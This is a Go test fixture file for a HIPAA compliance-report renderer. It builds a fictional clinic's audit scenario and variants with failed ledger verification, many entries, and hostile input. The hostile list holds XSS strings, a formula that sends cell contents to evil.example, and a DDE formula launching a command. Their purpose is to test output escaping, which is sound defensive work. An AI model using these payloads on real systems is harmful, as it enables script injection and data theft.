package report

import (
	"fmt"
	"time"
)

// The fixed scenario the renderers' golden files are made from: a week of
// a small clinic, built from the model's types so the renderings are tested
// without a store. Every list and breakdown has entries, so every table
// and chart is drawn.

var (
	day0 = time.Date(2026, 11, 2, 0, 0, 0, 0, time.UTC)
	at   = func(d, h, m int) time.Time {
		return day0.Add(time.Duration(d)*24*time.Hour + time.Duration(h)*time.Hour + time.Duration(m)*time.Minute)
	}
)

func ptrTime(t time.Time) *time.Time { return &t }
func ptrU64(u uint64) *uint64        { return &u }

func fixedHeader(kind Kind, title string) Header {
	return Header{
		Kind:        kind,
		Title:       title,
		Period:      Period{From: day0, To: day0.AddDate(0, 0, 7)},
		GeneratedAt: time.Date(2026, 11, 9, 8, 30, 0, 0, time.UTC),
		GeneratedBy: "privacy.officer",
		Generator:   Generator{Name: "custos", Version: "v0.9.0-test"},
		Checkpoint: Checkpoint{
			Origin:      "custos.example/ledger",
			Size:        1042,
			RootHash:    []byte("0123456789abcdef0123456789abcdef"),
			SignedAt:    time.Date(2026, 11, 9, 8, 29, 58, 0, time.UTC),
			Note:        "custos.example/ledger\n1042\nMDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY=\n\n— custos.example/ledger Az3kbQ8AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==\n",
			VerifierKey: "custos.example/ledger+3f2a1b0c+AQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyA=",
			Witnesses:   []string{"witness.example/w1"},
		},
	}
}

func perDay(counts ...int64) []Count {
	out := make([]Count, len(counts))
	for i, c := range counts {
		out[i] = Count{Key: day0.AddDate(0, 0, i).Format(time.DateOnly), Count: c}
	}
	return out
}

func fixedHIPAA() *HIPAA {
	r := &HIPAA{Header: fixedHeader(KindHIPAA, "HIPAA compliance report")}
	r.Scope = Scope{SectionInfo: SectionInfo{Title: "Period and scope", Regulation: RegScope},
		Sources: []string{"ehr-web", "lab-portal"}, Actions: []string{"CREATE", "READ", "UPDATE", "DELETE", "LOGIN", "LOGOUT", "EXPORT", "IMPORT"},
		SecurityTypes: []string{"AUTH_FAILURE", "BRUTE_FORCE", "UNAUTHORIZED_ACCESS", "SESSION_HIJACK", "DATA_EXPORT", "CONFIGURATION_CHANGE"},
		RetentionDays: 2190, MaxPeriodDays: 366, IncludesServer: true}
	r.Integrity = Integrity{SectionInfo: SectionInfo{Title: "Integrity of the audit trail", Regulation: RegIntegrity},
		OK: true, Summary: "The ledger verified: 1042 records, 8 signed checkpoints, every record found by its searches.",
		FirstIndex: ptrU64(12), LastIndex: ptrU64(1038), Records: 1027,
		Checks: []Check{{Name: "checkpoint signature", OK: true, Detail: "Ed25519 signature by custos.example/ledger"},
			{Name: "tree", OK: true, Detail: "1042 leaves recomputed; root matches"},
			{Name: "period range", OK: true, Detail: "indexes 12 to 1038 contiguous"}},
		Problems: []string{}}
	r.AccessSummary = AccessSummary{SectionInfo: SectionInfo{Title: "Access summary", Regulation: RegReview},
		TotalEvents: 960, Failures: 31,
		ByAction:       []Count{{"READ", 702}, {"UPDATE", 121}, {"LOGIN", 84}, {"CREATE", 30}, {"LOGOUT", 15}, {"EXPORT", 8}},
		ByResourceType: []Count{{"Patient", 540}, {"Observation", 280}, {"Session", 99}, {"Bundle", 8}, {"", 33}},
		ByRole:         []Count{{"physician", 610}, {"nurse", 420}, {"billing", 60}},
		ByUser:         []Count{{"dr.grey", 330}, {"nurse.kim", 290}, {"dr.shepherd", 205}, {"billing.lee", 60}},
		BySource:       []Count{{"ehr-web", 900}, {"lab-portal", 60}},
		ByDay:          perDay(120, 160, 150, 170, 180, 90, 90),
		UsersTotal:     7, TopAccessors: []Count{{"dr.grey", 300}, {"nurse.kim", 250}}, TopN: 4}
	r.LoginMonitoring = LoginMonitoring{SectionInfo: SectionInfo{Title: "Log-in monitoring", Regulation: RegLogin},
		Successes: 60, Failures: 24, Logouts: 15,
		FailuresByUser: []Count{{"admin", 12}, {"dr.grey", 2}}, FailuresByIP: []Count{{"198.51.100.23", 12}, {"203.0.113.7", 2}},
		FailuresByDay: perDay(0, 2, 0, 12, 0, 10, 0), BruteForce: 1, AuthFailureSecs: 24,
		Blocks: []Block{{ID: "b-1", CIDR: "198.51.100.23/32", Reason: "5 failed log-ins in 5 minutes", CreatedAt: at(3, 2, 14),
			CreatedBy: "rule:brute_force", BlockedUntil: at(4, 2, 14)}},
		InactiveLogins: []InactiveLogin{{Index: 700, Timestamp: at(5, 9, 0), UserID: "temp.locum", Status: "suspended", Action: "LOGIN", IPAddress: "203.0.113.50", Source: "ehr-web"}}}
	r.SecurityEvents = SecurityEvents{SectionInfo: SectionInfo{Title: "Security incidents", Regulation: RegIncidents},
		Total: 3, ByType: []Count{{"AUTH_FAILURE", 1}, {"BRUTE_FORCE", 1}, {"DATA_EXPORT", 1}},
		BySeverity: []Count{{"LOW", 1}, {"MEDIUM", 1}, {"HIGH", 1}, {"CRITICAL", 0}},
		ByStatus:   []Count{{"resolved", 2}, {"open", 1}}, ByRule: []Count{{"brute_force", 1}, {"bulk_export", 1}, {"", 1}},
		TimeToAcknowledge: Durations{Count: 2, Mean: 930, Median: 930, Max: 1500},
		OpenHighOrCritical: []SecurityEvent{{ID: "se-3", Index: 901, Timestamp: at(5, 23, 40), EventType: "DATA_EXPORT", Severity: "HIGH",
			Description: "off-hours export of 400 records", User: "billing.lee", IPAddress: "203.0.113.9", Rule: "bulk_export", Status: "open"}},
		Events: []SecurityEvent{
			{ID: "se-3", Index: 901, Timestamp: at(5, 23, 40), EventType: "DATA_EXPORT", Severity: "HIGH",
				Description: "off-hours export of 400 records", User: "billing.lee", IPAddress: "203.0.113.9", Rule: "bulk_export", Status: "open"},
			{ID: "se-2", Index: 455, Timestamp: at(3, 2, 14), EventType: "BRUTE_FORCE", Severity: "MEDIUM",
				Description: "5 failed log-ins from 198.51.100.23", User: "admin", IPAddress: "198.51.100.23", Rule: "brute_force",
				Status: "resolved", AcknowledgedAt: ptrTime(at(3, 2, 39)), ResolvedAt: ptrTime(at(3, 3, 0)), Response: "address blocked; password reset"},
			{ID: "se-1", Index: 120, Timestamp: at(1, 10, 5), EventType: "AUTH_FAILURE", Severity: "LOW",
				Description: "failed log-in", User: "dr.grey", IPAddress: "203.0.113.7", Status: "resolved",
				AcknowledgedAt: ptrTime(at(1, 10, 11)), ResolvedAt: ptrTime(at(1, 10, 11))},
		}}
	r.DataAccess = DataAccess{SectionInfo: SectionInfo{Title: "Data access", Regulation: RegMinimumNec},
		TotalPHIAccess: 820, DistinctPatients: 143,
		AccessByRole: []Count{{"physician", 520}, {"nurse", 300}}, AccessByUser: []Count{{"dr.grey", 300}, {"nurse.kim", 250}, {"dr.shepherd", 200}, {"billing.lee", 70}},
		AccessByAction: []Count{{"READ", 690}, {"UPDATE", 100}, {"CREATE", 22}, {"EXPORT", 8}},
		UnusualPatterns: []UnusualPattern{{UserID: "nurse.kim", Day: "2026-11-06", Patients: 61, Baseline: 14.5, Threshold: 43.5,
			Source: "baseline"}, {UserID: "billing.lee", Day: "2026-11-07", Patients: 400, Baseline: 3, Threshold: 50, Source: "rule",
			SecurityEventID: "se-3", Severity: "HIGH"}},
		Exports: Exports{Total: 8, ByUser: []Count{{"billing.lee", 6}, {"dr.grey", 2}},
			Disclosures: []Disclosure{{Index: 640, Date: at(4, 14, 2), PatientID: "p-123", UserID: "dr.grey", Recipient: "Seattle Grace Cardiology",
				Address: "1 Hospital Way, Seattle WA", Description: "DocumentReference discharge-2026-11", Purpose: "TREAT"}}}}
	r.EmergencyAccess = EmergencyAccess{SectionInfo: SectionInfo{Title: "Emergency access", Regulation: RegEmergency},
		Grants: []Grant{{ID: "g-1", UserID: "dr.shepherd", PatientID: "p-777", Reason: "unconscious patient in the ED",
			OpenedAt: at(2, 3, 10), OpenedBy: "dr.shepherd", ExpiresAt: at(2, 7, 10), Review: "closed", ReviewedBy: "privacy.officer",
			ReviewedAt: ptrTime(at(3, 9, 0)), ReviewNote: "justified", Events: 5}},
		FlaggedEvents: 5, ReviewsClosed: 1, FlaggedByUser: []Count{{"dr.shepherd", 5}},
		Uses: []EmergencyUse{{Index: 300, Timestamp: at(2, 3, 12), UserID: "dr.shepherd", Action: "READ", ResourceType: "Patient",
			ResourceID: "p-777", PatientID: "p-777", Reason: "unconscious patient in the ED"}}}
	r.SystemChanges = SystemChanges{SectionInfo: SectionInfo{Title: "System changes", Regulation: RegAccessMgmt},
		Total: 3, ByEntity: []Count{{"role", 2}, {"block", 1}},
		Changes: []Change{
			{Index: 40, Timestamp: at(0, 9, 0), Entity: "role", ID: "ward_nurse", Op: "create", By: "key:admin", Summary: "parent auditor; chart:write"},
			{Index: 455, Timestamp: at(3, 2, 14), Entity: "block", ID: "b-1", Op: "create", By: "rule:brute_force", Summary: "198.51.100.23/32 for 24h"},
			{Index: 800, Timestamp: at(5, 11, 0), Entity: "role", ID: "ward_nurse", Op: "update", By: "key:admin", Summary: "removed chart:write"},
		}}
	r.Workforce = Workforce{SectionInfo: SectionInfo{Title: "Workforce security", Regulation: RegTermination},
		Suspended:  []AccountChange{{Index: 650, Timestamp: at(4, 16, 0), UserID: "temp.locum", Status: "suspended", Reason: "contract paused", By: "hr.admin"}},
		Terminated: []AccountChange{{Index: 660, Timestamp: at(4, 17, 0), UserID: "old.clerk", Status: "terminated", Reason: "left", By: "hr.admin"}},
		Reinstated: []AccountChange{},
		ActivityAfterTermination: []InactiveLogin{{Index: 700, Timestamp: at(5, 9, 0), UserID: "temp.locum", Status: "suspended",
			Action: "LOGIN", IPAddress: "203.0.113.50", Source: "ehr-web"}}}
	return r
}

// failedHIPAA is the scenario over a ledger whose verification failed.
func failedHIPAA() *HIPAA {
	r := fixedHIPAA()
	r.Integrity.OK = false
	r.Integrity.Summary = "The ledger did NOT verify: record 517 does not match its leaf hash."
	r.Integrity.Checks[1] = Check{Name: "tree", OK: false, Detail: "leaf 517: hash mismatch"}
	r.Integrity.Problems = []string{"record 517: the stored bytes do not hash to the tree's leaf"}
	r.Warning = r.Integrity.Summary
	return r
}

func fixedAccess() *PatientAccess {
	return &PatientAccess{Header: fixedHeader(KindAccess, "Access report for patient p-123"), Regulation: RegPatientAudit,
		PatientID: "p-123", Total: 3, ByUser: []Count{{"dr.grey", 2}, {"nurse.kim", 1}}, ByAction: []Count{{"READ", 2}, {"EXPORT", 1}},
		Accesses: []Access{
			{Index: 640, Timestamp: at(4, 14, 2), UserID: "dr.grey", UserName: "Meredith Grey", Roles: []string{"physician"}, Action: "EXPORT",
				ResourceType: "DocumentReference", ResourceID: "discharge-2026-11", Outcome: "success", IPAddress: "203.0.113.7", Source: "ehr-web", PurposeOfUse: "TREAT"},
			{Index: 310, Timestamp: at(2, 8, 30), UserID: "nurse.kim", UserName: "Kim Park", Roles: []string{"nurse", "ward_nurse"}, Action: "READ",
				ResourceType: "Observation", ResourceID: "obs-9", Outcome: "success", IPAddress: "2001:db8::7", Source: "ehr-web"},
			{Index: 290, Timestamp: at(2, 3, 12), UserID: "dr.grey", UserName: "Meredith Grey", Roles: []string{"physician"}, Action: "READ",
				ResourceType: "Patient", ResourceID: "p-123", Outcome: "success", IPAddress: "203.0.113.7", Source: "ehr-web",
				BreakGlass: true, BreakGlassReason: "patient unconscious"},
		}}
}

func fixedDisclosures() *Disclosures {
	return &Disclosures{Header: fixedHeader(KindDisclosures, "Accounting of disclosures for patient p-123"), Regulation: RegDisclosures,
		PatientID: "p-123", Total: 2, Disclosures: []Disclosure{
			{Index: 640, Date: at(4, 14, 2), PatientID: "p-123", UserID: "dr.grey", Recipient: "Seattle Grace Cardiology",
				Address: "1 Hospital Way, Seattle WA", Description: "DocumentReference discharge-2026-11", Purpose: "TREAT"},
			{Index: 88, Date: at(0, 11, 0), PatientID: "p-123", UserID: "billing.lee", Recipient: "Acme Health Insurance",
				Description: "Claim claim-55", Purpose: "HPAYMT"},
		}}
}

// hostile is the attacker's payload put in every text field a client can
// write: markup, a script, an event handler, a remote URL and formulas.
var hostile = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(2)>`,
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1,2)`,
	"\tnewline\r\n=1+1",
	`</style><svg onload=alert(3)>`,
	`]]><!--`,
}

// hostileHIPAA puts the payloads in the scenario's client-written fields.
func hostileHIPAA() *HIPAA {
	r := failedHIPAA()
	h := func(i int) string { return hostile[i%len(hostile)] }
	r.AccessSummary.ByUser = []Count{{h(0), 5}, {h(1), 4}, {h(2), 3}, {h(3), 2}, {h(4), 1}}
	r.AccessSummary.ByResourceType = []Count{{h(5), 9}, {h(6), 8}, {h(7), 7}, {h(8), 6}}
	r.AccessSummary.ByDay[0].Key = h(0)
	r.AccessSummary.ByRole = []Count{{h(1), 3}}
	r.Scope.Sources = []string{h(2), h(7)}
	r.LoginMonitoring.FailuresByUser = []Count{{h(0), 5}}
	r.SecurityEvents.Events[0].Description = h(0)
	r.SecurityEvents.Events[1].User = h(2)
	r.DataAccess.Exports.Disclosures[0].Recipient = h(1)
	r.DataAccess.Exports.Disclosures[0].Address = h(3)
	r.DataAccess.Exports.Disclosures[0].Purpose = h(5)
	r.EmergencyAccess.Uses[0].Reason = h(7)
	r.SystemChanges.Changes[0].Summary = h(4)
	r.Integrity.Summary = h(0)
	r.Integrity.Problems = []string{h(1), h(7)}
	r.Checkpoint.Origin = h(0)
	r.Title = h(7)
	r.GeneratedBy = h(1)
	return r
}

func hostileAccess() *PatientAccess {
	r := fixedAccess()
	for i := range r.Accesses {
		a := &r.Accesses[i]
		a.UserID, a.UserName, a.ResourceType = hostile[i], hostile[i+1], hostile[i+2]
		a.Roles = []string{hostile[i+3]}
		a.BreakGlassReason = hostile[i+4]
	}
	r.PatientID = hostile[0]
	r.ByUser = []Count{{hostile[1], 1}}
	return r
}

// largeHIPAA is the scenario with long lists, for the benchmarks: a month,
// 1,000 security events, 1,000 changes and 1,000 disclosures listed.
func largeHIPAA() *HIPAA {
	r := fixedHIPAA()
	r.Period.To = day0.AddDate(0, 0, 30)
	days := make([]int64, 30)
	for i := range days {
		days[i] = int64(100 + (i*37)%90)
	}
	r.AccessSummary.ByDay = perDay(days...)
	r.LoginMonitoring.FailuresByDay = perDay(days...)
	ev, ch, ds := r.SecurityEvents.Events[1], r.SystemChanges.Changes[0], r.DataAccess.Exports.Disclosures[0]
	r.SecurityEvents.Events, r.SystemChanges.Changes, r.DataAccess.Exports.Disclosures = nil, nil, nil
	for i := range 1000 {
		ev.ID, ev.Index = fmt.Sprintf("se-%d", i), uint64(i)
		ch.ID, ch.Index = fmt.Sprintf("role-%d", i), uint64(i)
		ds.PatientID, ds.Index = fmt.Sprintf("p-%d", i), uint64(i)
		r.SecurityEvents.Events = append(r.SecurityEvents.Events, ev)
		r.SystemChanges.Changes = append(r.SystemChanges.Changes, ch)
		r.DataAccess.Exports.Disclosures = append(r.DataAccess.Exports.Disclosures, ds)
	}
	return r
}
